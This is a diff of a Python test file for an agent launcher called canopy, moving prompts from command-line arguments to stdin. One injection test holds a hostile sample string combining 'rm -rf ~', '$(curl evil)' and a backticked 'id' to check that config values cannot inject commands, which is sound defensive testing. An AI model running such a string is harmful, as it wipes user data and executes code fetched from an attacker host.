@@ -17,7 +17,14 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from canopy.errors import Refused
-from canopy.platforms import Platform, UsageLimit, clamp_reset, get_platform, platform_names
+from canopy.platforms import (
+    Invocation,
+    Platform,
+    UsageLimit,
+    clamp_reset,
+    get_platform,
+    platform_names,
+)
 from tests.engine import agent_runs
 
 FAKE_AGENT = Path(__file__).with_name("fake_agent.py")
@@ -70,18 +77,19 @@ def line(event: dict[str, object]) -> str:
 # ---------------------------------------------------------------------------- argv
 
 
-def test_claude_argv_puts_the_prompt_last_after_double_dash() -> None:
-    argv = get_platform("claude").build_argv(
+def test_claude_reads_the_prompt_on_stdin() -> None:
+    invocation = get_platform("claude").build_invocation(
         "- fix it", model=None, effort=None, resume_session_id=None
     )
-    assert argv == ["claude", "-p", "--output-format", "stream-json", "--verbose", "--", "- fix it"]
+    assert invocation.argv == ["claude", "-p", "--output-format", "stream-json", "--verbose"]
+    assert invocation.stdin == "- fix it"
 
 
 def test_claude_argv_with_model_effort_and_resume() -> None:
-    argv = get_platform("claude").build_argv(
+    invocation = get_platform("claude").build_invocation(
         "go", model="sonnet", effort="high", resume_session_id="abc-123"
     )
-    assert argv == [
+    assert invocation.argv == [
         "claude",
         "-p",
         "--output-format",
@@ -93,22 +101,16 @@ def test_claude_argv_with_model_effort_and_resume() -> None:
         "high",
         "--resume",
         "abc-123",
-        "--",
-        "go",
     ]
 
 
 def test_codex_argv_fresh_and_resumed() -> None:
     codex = get_platform("codex")
-    assert codex.build_argv("go", model=None, effort=None, resume_session_id=None) == [
-        "codex",
-        "exec",
-        "--json",
-        "--",
-        "go",
-    ]
-    resumed = codex.build_argv("go", model="gpt-5", effort="high", resume_session_id="th-1")
-    assert resumed == [
+    fresh = codex.build_invocation("go", model=None, effort=None, resume_session_id=None)
+    assert fresh.argv == ["codex", "exec", "--json", "-"]
+    assert fresh.stdin == "go"
+    resumed = codex.build_invocation("go", model="gpt-5", effort="high", resume_session_id="th-1")
+    assert resumed.argv == [
         "codex",
         "exec",
         "--json",
@@ -118,21 +120,19 @@ def test_codex_argv_fresh_and_resumed() -> None:
         "model_reasoning_effort=high",
         "resume",
         "th-1",
-        "--",
-        "go",
+        "-",
     ]
 
 
-def test_gemini_argv_binds_the_prompt_and_ignores_effort() -> None:
+def test_gemini_reads_the_prompt_on_stdin_and_ignores_effort() -> None:
     gemini = get_platform("gemini")
-    assert gemini.build_argv("-x", model=None, effort="high", resume_session_id=None) == [
-        "gemini",
-        "--output-format",
-        "stream-json",
-        "--prompt=-x",
-    ]
-    argv = gemini.build_argv("go", model="gemini-2.5-pro", effort=None, resume_session_id="s1")
-    assert argv == [
+    fresh = gemini.build_invocation("-x", model=None, effort="high", resume_session_id=None)
+    assert fresh.argv == ["gemini", "--output-format", "stream-json"]
+    assert fresh.stdin == "-x"
+    resumed = gemini.build_invocation(
+        "go", model="gemini-2.5-pro", effort=None, resume_session_id="s1"
+    )
+    assert resumed.argv == [
         "gemini",
         "--output-format",
         "stream-json",
@@ -140,12 +140,15 @@ def test_gemini_argv_binds_the_prompt_and_ignores_effort() -> None:
         "gemini-2.5-pro",
         "--resume",
         "s1",
-        "--prompt=go",
     ]
 
 
 def test_empty_model_counts_as_unset() -> None:
-    argv = get_platform("claude").build_argv("go", model="", effort="", resume_session_id="")
+    argv = (
+        get_platform("claude")
+        .build_invocation("go", model="", effort="", resume_session_id="")
+        .argv
+    )
     assert "--model" not in argv and "--effort" not in argv and "--resume" not in argv
 
 
@@ -443,12 +446,9 @@ def test_config_platform_substitutes_and_drops_unset_placeholders(home: Path) ->
     write_config(home, TOOL_CONFIG)
     tool = get_platform("mytool")
     assert tool.name == "mytool"
-    assert tool.build_argv("go", model=None, effort=None, resume_session_id=None) == [
-        "mytool",
-        "-p",
-        "go",
-    ]
-    assert tool.build_argv("go", model="big", effort="low", resume_session_id=None) == [
+    fresh = tool.build_invocation("go", model=None, effort=None, resume_session_id=None)
+    assert fresh == Invocation(["mytool", "-p", "go"], stdin=None)
+    assert tool.build_invocation("go", model="big", effort="low", resume_session_id=None).argv == [
         "mytool",
         "--model",
         "big",
@@ -456,15 +456,17 @@ def test_config_platform_substitutes_and_drops_unset_placeholders(home: Path) ->
         "-p",
         "go",
     ]
-    resumed = tool.build_argv("go", model="big", effort=None, resume_session_id="s-9")
-    assert resumed == ["mytool", "--continue", "s-9", "go"]
+    resumed = tool.build_invocation("go", model="big", effort=None, resume_session_id="s-9")
+    assert resumed.argv == ["mytool", "--continue", "s-9", "go"]
 
 
 def test_config_platform_values_cannot_inject(home: Path) -> None:
     write_config(home, TOOL_CONFIG)
     nasty = "x; rm -rf ~ && $(curl evil) `id` {model} {session_id}\n--model evil"
-    argv = get_platform("mytool").build_argv(
-        nasty, model="{prompt} --danger", effort=None, resume_session_id=None
+    argv = (
+        get_platform("mytool")
+        .build_invocation(nasty, model="{prompt} --danger", effort=None, resume_session_id=None)
+        .argv
     )
     assert argv == ["mytool", "--model", "{prompt} --danger", "-p", nasty]
 
@@ -472,7 +474,8 @@ def test_config_platform_values_cannot_inject(home: Path) -> None:
 def test_config_platform_without_resume_argv_starts_fresh(home: Path) -> None:
     write_config(home, '[platforms.plain]\nargv = ["plain", "{prompt}"]\n')
     plain = get_platform("plain")
-    assert plain.build_argv("go", model="m", effort=None, resume_session_id="s") == ["plain", "go"]
+    resumed = plain.build_invocation("go", model="m", effort=None, resume_session_id="s")
+    assert resumed.argv == ["plain", "go"]
     assert plain.session_id_from_line("session: abc") is None
     assert plain.usage_limit("quota hit", NOW) is None
 
@@ -504,7 +507,6 @@ def test_config_limit_pattern_with_epoch_and_without_reset(home: Path) -> None:
     ("table", "complaint"),
     [
         ('argv = ["t", "{prompt}", "{colour}"]', "unknown placeholder {colour}"),
-        ('argv = ["t", "--go"]', "must pass the prompt"),
         ("argv = []", "must start with the program"),
         ('argv = ["t", "{prompt}"]\nresume_argv = ["t", "{prompt}"]', "{session_id}"),
         ('argv = ["t", "{prompt}"]\nsession_id_pattern = "id: \\\\S+"', "one group"),
@@ -544,14 +546,20 @@ def test_executable_override_and_extra_args(home: Path) -> None:
         '[platforms.claude]\nexecutable = "/opt/bin/claude"\n'
         '[platforms.codex]\nexecutable = ["npx", "codex"]\nextra_args = ["--full-auto"]\n',
     )
-    claude = get_platform("claude").build_argv(
-        "go", model=None, effort=None, resume_session_id=None
+    claude = (
+        get_platform("claude")
+        .build_invocation("go", model=None, effort=None, resume_session_id=None)
+        .argv
     )
     assert claude[:2] == ["/opt/bin/claude", "-p"]
-    codex = get_platform("codex").build_argv("go", model=None, effort=None, resume_session_id=None)
-    assert codex == ["npx", "codex", "exec", "--full-auto", "--json", "--", "go"]
-    gemini = get_platform("gemini").build_argv(
+    codex = get_platform("codex").build_invocation(
         "go", model=None, effort=None, resume_session_id=None
+    )
+    assert codex.argv == ["npx", "codex", "exec", "--full-auto", "--json", "-"]
+    gemini = (
+        get_platform("gemini")
+        .build_invocation("go", model=None, effort=None, resume_session_id=None)
+        .argv
     )
     assert gemini[0] == "gemini"
 
@@ -598,9 +606,12 @@ def run_agent(
     effort: str | None = None,
     **env: str,
 ) -> Run:
-    argv = platform.build_argv(prompt, model=model, effort=effort, resume_session_id=resume)
+    invocation = platform.build_invocation(
+        prompt, model=model, effort=effort, resume_session_id=resume
+    )
     done = subprocess.run(
-        argv,
+        invocation.argv,
+        input=invocation.stdin,
         cwd=cwd,
         capture_output=True,
         text=True,
@@ -702,10 +713,16 @@ def test_fake_agent_exit_and_unknown_input(home: Path, tmp_path: Path) -> None:
 def test_session_id_is_readable_while_the_agent_runs(home: Path, tmp_path: Path) -> None:
     use_fake_agent(home)
     gemini = get_platform("gemini")
-    argv = gemini.build_argv("FAKE: hang", model=None, effort=None, resume_session_id=None)
-    process = subprocess.Popen(argv, cwd=tmp_path, stdout=subprocess.PIPE, text=True)
+    invocation = gemini.build_invocation(
+        "FAKE: hang", model=None, effort=None, resume_session_id=None
+    )
+    process = subprocess.Popen(
+        invocation.argv, cwd=tmp_path, stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True
+    )
     try:
-        assert process.stdout is not None
+        assert process.stdin is not None and process.stdout is not None
+        process.stdin.write(invocation.stdin or "")
+        process.stdin.close()
         found = None
         for text in process.stdout:
             found = gemini.session_id_from_line(text)
